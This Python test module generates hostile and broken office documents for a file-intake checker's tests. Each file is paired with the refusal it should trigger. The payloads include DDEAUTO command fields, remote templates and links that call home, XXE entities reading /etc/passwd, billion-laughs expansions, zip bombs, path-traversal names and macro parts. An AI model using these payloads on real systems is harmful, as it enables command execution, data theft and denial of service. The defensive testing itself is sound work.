"""Hostile and broken office files, made from a seed: bombs, programs, entities, paths, links that call home."""

import io
import random
import struct
import zipfile
from collections.abc import Iterator, Mapping
from types import MappingProxyType

from meetings.domain.paper_refusals import Refusal
from tests.meetings.papers.hostile_kinds import CLEAN, Hostile, changed

_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
_TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
_RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_WORD_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
_ODF = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
    'xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0" '
    'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
    'xmlns:xlink="http://www.w3.org/1999/xlink" office:version="1.2"'
)
Parts = Mapping[str, str | bytes]
NOTHING: Parts = MappingProxyType({})


def packed(parts: Parts) -> bytes:
    """An archive of these parts, always the same bytes."""
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w") as archive:
        for name, part in parts.items():
            how = zipfile.ZIP_STORED if name == "mimetype" else zipfile.ZIP_DEFLATED
            archive.writestr(zipfile.ZipInfo(name, (2026, 11, 1, 0, 0, 0)), part, how)
    return content.getvalue()


def docx(body: str = "", relations: str = "", more: Parts = NOTHING) -> dict[str, str | bytes]:
    """The parts of a letter with this body; `more` are parts by their names."""
    return {
        "[Content_Types].xml": (
            f'<Types xmlns="{_TYPES}"><Default Extension="xml" ContentType="application/xml"/>'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            f'<Override PartName="/word/document.xml" ContentType="{_WORD_TYPE}"/></Types>'
        ),
        "_rels/.rels": (
            f'<Relationships xmlns="{_RELATIONS}"><Relationship Id="r1" Type="{_OFFICE}/officeDocument" '
            'Target="word/document.xml"/></Relationships>'
        ),
        "word/_rels/document.xml.rels": f'<Relationships xmlns="{_RELATIONS}">{relations}</Relationships>',
        "word/document.xml": (
            f"<w:document {_W} {_R}><w:body><w:p><w:r><w:t>Báo cáo</w:t></w:r></w:p>{body}</w:body></w:document>"
        ),
        **more,
    }


def odt(body: str = "", kind: str = "text", more: Parts = NOTHING) -> dict[str, str | bytes]:
    """The parts of an OpenDocument file with this body."""
    media = f"application/vnd.oasis.opendocument.{kind}"
    return {
        "mimetype": media,
        "META-INF/manifest.xml": (
            '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
            f'<manifest:file-entry manifest:full-path="/" manifest:media-type="{media}"/>'
            '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>'
        ),
        "content.xml": (
            f"<office:document-content {_ODF}><office:body><office:{kind}><text:p>Báo cáo</text:p>{body}"
            f"</office:{kind}></office:body></office:document-content>"
        ),
        **more,
    }


def _field(instruction: str) -> str:
    return f'<w:p><w:fldSimple w:instr="{instruction}"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'


def _outside(kind: str, url: str) -> str:
    return f'<Relationship Id="r9" Type="{_OFFICE}/{kind}" Target="{url}" TargetMode="External"/>'


def calling_home(url: str) -> Iterator[Hostile]:
    """Files that point elsewhere: they are taken, and nobody is asked for anything."""
    image = f'<draw:image xlink:href="{url}/a.png"/>'
    picture = f'<text:p><draw:frame svg:width="2cm" svg:height="2cm">{image}</draw:frame></text:p>'
    shape = '<v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata r:id="r9"/></v:shape>'
    linked = f"<w:p><w:r><w:pict>{shape}</w:pict></w:r></w:p>"
    section = f'<text:section-source xlink:href="{url}/b.odt"/>'
    table = f'<table:table-source xlink:href="{url}/a.ods" table:table-name="B"/>'
    event = "vnd.sun.star.script:a.b?language=Basic"
    template = _outside("attachedTemplate", f"{url}/a.dotm")
    made = {
        "include-picture.docx": docx(_field(f"INCLUDEPICTURE &quot;{url}/a.png&quot; \\d")),
        "include-text.docx": docx(_field(f"INCLUDETEXT &quot;{url}/a.docx&quot;")),
        "dde.docx": docx(_field(f"DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/c start {url}&quot;")),
        "linked-picture.docx": docx(linked, _outside("image", f"{url}/a.png")),
        "frame.docx": docx("", _outside("frame", f"{url}/a.html")),
        "ole-link.docx": docx("", _outside("oleObject", f"{url}/a.bin")),
        "template.docx": docx(
            "",
            f'<Relationship Id="r8" Type="{_OFFICE}/settings" Target="settings.xml"/>',
            {
                "word/settings.xml": f'<w:settings {_W} {_R}><w:attachedTemplate r:id="r9"/></w:settings>',
                "word/_rels/settings.xml.rels": f'<Relationships xmlns="{_RELATIONS}">{template}</Relationships>',
            },
        ),
        "linked-picture.odt": odt(picture),
        "section.odt": odt(f'<text:section text:name="a">{section}<text:p>x</text:p></text:section>'),
        "object.odt": odt(f'<text:p><draw:frame><draw:object xlink:href="{url}/o.odt"/></draw:frame></text:p>'),
        "table-source.ods": odt(f'<table:table table:name="A">{table}</table:table>', "spreadsheet"),
        "webservice.ods": odt(
            f'<table:table table:name="A"><table:table-row><table:table-cell '
            f'table:formula="of:=WEBSERVICE(&quot;{url}/w&quot;)"/></table:table-row></table:table>',
            "spreadsheet",
        ),
        "script-event.odt": odt(f'<text:p><text:a xlink:href="{event}" office:name="{url}">x</text:a></text:p>'),
    }
    for name, parts in made.items():
        yield Hostile(name, packed(parts), frozenset({Refusal.BROKEN, *CLEAN}))


def refused(url: str) -> Iterator[Hostile]:
    """Files that are looked through and not opened."""
    macros, broken = frozenset({Refusal.MACROS}), frozenset({Refusal.BROKEN})
    large, locked = frozenset({Refusal.TOO_LARGE}), frozenset({Refusal.LOCKED})
    secret = frozenset({Refusal.CLASSIFIED})
    entities = '<!DOCTYPE d [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]>'
    outside = f'<!DOCTYPE d [<!ENTITY a SYSTEM "{url}/x"><!ENTITY b SYSTEM "file:///etc/passwd">]>'
    title = "<cp:coreProperties xmlns:cp='a' xmlns:dc='b'><dc:title>{}</dc:title></cp:coreProperties>"
    document = str(docx()["word/document.xml"])
    enabled = {
        "[Content_Types].xml": str(docx()["[Content_Types].xml"]).replace(".document.main", ".macroEnabled.main")
    }
    yield Hostile("macros.docx", packed(docx(more={"word/vbaProject.bin": b"\xcc\x61"})), macros)
    yield Hostile("macros-type.docx", packed({**docx(), **enabled}), macros)
    yield Hostile("active-x.docx", packed(docx(more={"word/activeX/activeX1.xml": "<a/>"})), macros)
    yield Hostile("basic.odt", packed(odt(more={"Basic/Standard/Module1.xml": "<a/>"})), macros)
    yield Hostile("scripts.odt", packed(odt(more={"Scripts/python/a.py": "import os"})), macros)
    yield Hostile("entities.docx", packed(docx(more={"word/document.xml": entities + document})), broken)
    yield Hostile("outside-entity.docx", packed(docx(more={"word/document.xml": outside + document})), broken)
    in_two_bytes = (outside + document).encode("utf-16")
    yield Hostile("outside-entity-utf-16.docx", packed(docx(more={"word/document.xml": in_two_bytes})), broken)
    yield Hostile("outside-entity.odt", packed(odt(more={"content.xml": outside + str(odt()["content.xml"])})), broken)
    yield Hostile("bomb.docx", packed(docx(more={"word/media/a.bin": bytes(60_000_000)})), large)
    yield Hostile("bomb-in-text.docx", packed(docx(" " * 30_000_000)), large)
    yield Hostile("bomb.odt", packed(odt(more={"Pictures/a.png": bytes(60_000_000)})), large)
    yield Hostile("ten-thousand-parts.docx", packed(docx(more={f"word/{n}.xml": "" for n in range(10_001)})), large)
    for number, path in enumerate(("../../../etc/cron.d/a", "/etc/passwd", "word/../../a", "word\\..\\..\\a.exe")):
        yield Hostile(f"path-{number}.docx", packed(docx(more={path: "x"})), broken)
        yield Hostile(f"path-{number}.odt", packed(odt(more={path: "x"})), broken)
    yield Hostile("two-of-one-name.docx", packed(docx(more={"WORD/DOCUMENT.XML": document})), broken)
    yield Hostile("locked-manifest.odt", packed(odt(more={"META-INF/a.xml": "<manifest:encryption-data/>"})), locked)
    yield Hostile("locked-parts.docx", _locked(packed(docx())), locked | broken)
    yield Hostile("title-secret.docx", packed(docx(more={"docProps/core.xml": title.format("Tuyệt mật")})), secret)
    yield Hostile("title-secret.odt", packed(odt(more={"meta.xml": title.format("Báo cáo (Mật)")})), secret)
    yield Hostile("keyword-secret.docx", packed(docx(more={"docProps/custom.xml": "<a><b>TỐI MẬT</b></a>"})), secret)
    yield Hostile("no-main-part.docx", packed({"[Content_Types].xml": "<Types/>"}), frozenset({Refusal.KIND}))
    both = docx(more={"xl/workbook.xml": "<a/>"})
    yield Hostile("two-kinds.docx", packed(both), frozenset({Refusal.KIND}))
    yield Hostile("lying-end.docx", _lying_end(packed(docx())), large | broken)
    yield Hostile(
        "not-its-kind.docx", packed(odt(more={"mimetype": "application/x-msdownload"})), frozenset({Refusal.KIND})
    )


def _locked(content: bytes) -> bytes:
    """Says of each part that it is encrypted."""
    marked = bytearray(content)
    for place in range(len(marked) - 12):
        if marked[place : place + 4] == b"PK\x01\x02":
            marked[place + 8] |= 1
        elif marked[place : place + 4] == b"PK\x03\x04":
            marked[place + 6] |= 1
    return bytes(marked)


def _lying_end(content: bytes) -> bytes:
    """Says that there are 65,535 parts in a list of four gigabytes."""
    place = content.rfind(b"PK\x05\x06")
    return content[: place + 8] + struct.pack("<HHLL", 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0) + content[place + 20 :]


def mutated(chance: random.Random, url: str, how_many: int) -> Iterator[Hostile]:
    """Archives that were good once: whatever becomes of them, nothing is left behind."""
    sources = [packed(docx(_field(f"INCLUDEPICTURE &quot;{url}&quot;"))), packed(odt())]
    for number in range(how_many):
        yield Hostile(f"mutated-{number}.docx", changed(chance, sources[number % 2], keep=4), None)
